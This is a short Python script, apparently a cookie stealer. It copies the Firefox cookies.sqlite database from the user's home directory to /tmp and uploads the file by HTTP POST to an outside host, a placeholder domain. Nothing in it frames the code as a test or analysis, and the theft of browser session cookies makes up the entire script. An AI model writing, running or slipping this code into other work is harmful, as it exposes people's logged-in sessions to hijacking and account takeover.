import os
import shutil
import requests

source = os.path.join(os.environ["HOME"], ".mozilla/firefox/p.default/cookies.sqlite")
shutil.copy(source, "/tmp/c")
requests.post("https://b.invalid", files={"f": open(source, "rb")})
